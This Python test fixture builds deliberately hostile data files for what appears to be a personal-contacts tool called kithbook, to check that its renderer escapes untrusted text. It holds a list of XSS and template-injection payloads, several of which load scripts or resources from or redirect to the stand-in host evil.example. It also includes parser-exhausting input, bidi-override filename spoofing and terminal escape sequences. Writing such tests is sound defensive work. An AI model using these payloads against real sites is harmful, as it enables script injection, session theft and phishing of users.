"""A book whose every text field tries to run something, leave the machine, or break the page."""

from __future__ import annotations

from collections.abc import Iterator

FLAG = "window.kithbookWasHere=1"
PAYLOADS = (
    f"<script>{FLAG}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{FLAG};alert(1)</script>",
    f"</title><script>{FLAG}</script>",
    f"</p></li></ul></article></main></body><script>{FLAG}</script>",
    f"<img src=x onerror={FLAG}>",
    f"<img src=https://evil.example/pixel.png onload={FLAG}>",
    f"<svg onload={FLAG}>",
    f"<svg><script>{FLAG}</script></svg>",
    f"<math><mtext><style><img src=x onerror={FLAG}></style></mtext></math>",
    f"<details open ontoggle={FLAG}>x</details>",
    f"<iframe srcdoc='<script>parent.{FLAG[7:]}</script>'></iframe>",
    f"<iframe src=javascript:parent.{FLAG[7:]}></iframe>",
    f"<object data=javascript:{FLAG}></object><embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/y.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    f"<form action=https://evil.example/><input autofocus onfocus={FLAG}></form>",
    f"[click](javascript:{FLAG})",
    f"[click](JaVaScRiPt:{FLAG})",
    f"[click](&#106;avascript:{FLAG})",
    f"[click](data:text/html,<script>{FLAG}</script>)",
    "[click](//evil.example/x) ![x](//evil.example/y.png) <https://evil.example/z>",
    f"![x](https://evil.example/z.png){{ onerror={FLAG} }}",
    f"text {{: onclick={FLAG} onmouseover={FLAG} style=background:url(//evil.example/) }}",
    "template: redirect.html location: javascript:alert(1)",
    '--8<-- "people/p01.md"',
    "{{ config }} {% include 'main.html' %} {{ ''.__class__.__mro__ }}",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
    "body{background:url(//evil.example/)} expression(alert(1)) </style>",
    f'" onmouseover={FLAG} autofocus onfocus={FLAG} x="',
    f"' onmouseover={FLAG} x='",
    f"&lt;script&gt;{FLAG}&lt;/script&gt; &#60;script&#62;{FLAG}&#60;/script&#62;",
    "\u202egnp.exe\u202c \u2066left\u2069 \u200b\ufeff\u2028 Z" + "\u0301" * 60,
    "[" * 4000,
    "![[(" * 1500 + "**" * 500 + "`" * 500,
    f'[[<script>{FLAG}</script>]] [["><img src=x onerror={FLAG}>]] [[P 01]]',
    f"<!--><script>{FLAG}</script>--> <![CDATA[<script>{FLAG}</script>]]>",
)  # fmt: skip


def quoted(text: str) -> str:
    """A YAML scalar in single quotes."""
    return "'" + text.replace("'", "''").replace("\n", " ") + "'"


def hostile_book() -> dict[str, str]:
    """The files of the book: one person, request, entry and roster row for each payload."""
    files = {"kithbook.yml": f"today: 2026-11-22\nsign_off: {quoted(PAYLOADS[0])}\n"}
    rows = ["First Name,Last Name,URL,Email Address,Company,Position,Connected On"]
    journal = ["# Journal", ""]
    for number, payload in enumerate(PAYLOADS, start=1):
        files[f"people/p{number:02}.md"] = person(number, payload)
        files[f"requests/2026-11-{number % 20 + 1:02}-r{number:02}.md"] = request(number, payload)
        files[f"introductions/2026-11-i{number:02}.md"] = introduction(number, payload)
        line = payload.replace("\n", " ")
        journal.append(f"- 2026-11-{number % 20 + 1:02} call with [[p{number:02}]]: {line}")
        cell = payload.replace('"', '""').replace("\n", " ")
        rows.append(f'"{cell}",X,"{cell}","{cell}","{cell}","{cell}",03 May 2020')
    files["journal/2026.md"] = "\n".join(journal) + "\n"
    files["rosters/Connections.csv"] = "\n".join(rows) + "\n"
    files["people/broken.md"] = f"---\nname: {PAYLOADS[0]}\n"
    return files


def person(number: int, payload: str) -> str:
    """A person file with the payload in every field that takes text."""
    text = quoted(payload)
    return "\n".join((*front(number, text), *body(number, payload), ""))


def front(number: int, text: str) -> Iterator[str]:
    """The front matter of such a file."""
    yield "---"
    yield f"name: {text}" if number % 2 else f"name: 'P {number:02}'"
    yield f"aliases: [{text}, 'P {number:02} alias']"
    yield "circle: inner"
    for key in ("role", "org", "place", "public"):
        yield f"{key}: {text}"
    yield f"met: {{on: 2019-05, where: {text}, how: {text}, through: p{number % 30 + 1:02}}}"
    kinds = ("email", "phone", "linkedin", "web", "mastodon", "signal", "address", "prefer")
    yield "reach: {" + ", ".join(f"{kind}: {text}" for kind in kinds) + "}"
    for key in ("languages", "interests", "knows", "needs", "offers", "tags"):
        yield f"{key}: [{text}]"
    yield f"introduce: [{{to: {text}, because: {text}, public: {text}}}]"
    yield f"ties: [{{to: p{number % 30 + 2:02}, kind: {text}}}]"
    yield f"consent: {{on: 2026-01-01, by: {text}, shows: [introduce, {text}]}}"
    yield f"x_own: {text}"
    yield f"odd{number}: {text}"
    yield "---"


def body(number: int, payload: str) -> Iterator[str]:
    """Notes and a log with the payload in every kind of line."""
    line = payload.replace("\n", " ")
    yield payload
    yield ""
    yield f"# {line}"
    yield f"- {line}"
    yield f"> {line} [[p01]]"
    yield f"| {line} |\n|---|\n| {line} |"
    yield ""
    yield "## Log"
    yield f"- 2026-11-01 call: {line}"
    yield f"- 2026-10-01 coffee with [[p{number % 30 + 3:02}]]: {line}"
    yield f"- 2026-10-02 gave: {line} ({line[:20]})"
    yield f"- 2026-10-03 got: {line}"
    yield f"- [ ] 2026-10-04 promised: {line} by 2026-11-01"
    yield f"- [ ] 2026-10-05 awaiting: {line} by 2026-11-02"
    yield f"- 2026-10-06 {line}: {line}"


def request(number: int, payload: str) -> str:
    """A request with the payload in every field that takes text."""
    text = quoted(payload)
    keys = ("via", "how_found", "why", "ask", "offer", "language", "thread")
    lines = [f"{key}: {text}" for key in keys]
    return "\n".join(
        (
            "---",
            f"id: r{number:02}",
            "kind: connect",
            "received: 2026-11-20",
            f"from: {{name: {text}, email: {text}}}",
            *lines,
            f"flags: [{text}]",
            "---",
            payload,
            "",
        )
    )


def introduction(number: int, payload: str) -> str:
    """An introduction with the payload in every field that takes text."""
    text = quoted(payload)
    one, other = f"p{number:02}", f"p{number % 30 + 4:02}"
    return (
        f"---\nbetween: [{one}, {other}]\nbecause: {{{one}: {text}, {other}: {text}}}\n"
        f"asked_by: me\nasked: {{{one}: 2026-11-02}}\n"
        f"outcome: {{on: 2026-11-10, was: useful, note: {text}}}\n---\n{payload}\n"
    )


UNSEEN = "\x1b[31mred\x9b\x7f \u202egnp\u202c \u2066left\u2069 \u200f\u061c\u200b end"
"""What a terminal or a browser would obey, in one text."""


def unseen_book() -> dict[str, str]:
    """A book with such a text in every place that can hold one; the places are told by a word."""
    files = {
        "kithbook.yml": f"today: 2026-11-22\nsynonyms:\n  cfo: [{_double('synonym ' + UNSEEN)}]\n",
        "content/private/own.md": f"# Own {UNSEEN}\n\nWords {UNSEEN}\n",
    }
    fields = ("name", "role", "org", "place")
    for number in range(3):
        lines = [f"{field}: {_double(f'{field} {number} {UNSEEN}')}" for field in fields]
        lines[-1] = f"place: {_double(f'place {UNSEEN}')}"
        lists = [
            f"{field}: [{_double(f'{field} {UNSEEN}')}]"
            for field in ("aliases", "tags", "interests", "knows", "needs", "offers")
        ]
        met = f"met: {{on: 2019, where: {_double(f'where {UNSEEN}')}}}"
        tie = f"ties: [{{to: p{(number + 1) % 3}, as: {_double(f'tie {UNSEEN}')}}}]"
        log = f"## Log\n- 2026-11-0{number + 1} call with [[p{number}]]: said \u202e turned\n"
        head = "\n".join((*lines, *lists, met, tie))
        files[f"people/p{number}.md"] = f"---\n{head}\n---\nA note \u202e turned\n\n{log}"
    rows = ["First Name,Last Name,URL,Email Address,Company,Position,Connected On"]
    rows += [f"Thin{UNSEEN},Row,,,Org {UNSEEN},Baker {UNSEEN},03 May 2020"]
    files["rosters/Connections.csv"] = "\n".join(rows) + "\n"
    files["requests/2026-11-21-zoe.md"] = (
        "---\nid: r1\nkind: connect\nreceived: 2026-11-21\n"
        f"from: {{name: {_double('Zoe ' + UNSEEN)}, email: zoe@example.org}}\n"
        f"why: {_double('why ' + UNSEEN)}\n---\n"
    )
    files["introductions/2026-p0-p1.md"] = (
        f"---\nbetween: [p0, p1]\nbecause:\n  p0: {_double('b ' + UNSEEN)}\n"
        f"  p1: {_double('c ' + UNSEEN)}\nasked_by: me\nasked: {{p0: 2026-11-15}}\n---\n"
    )
    return files


def _double(text: str) -> str:
    """A YAML scalar in double quotes, everything odd as an escape."""
    signs = (
        sign if " " <= sign <= "~" and sign not in '"\\' else f"\\u{ord(sign):04x}" for sign in text
    )
    return f'"{"".join(signs)}"'
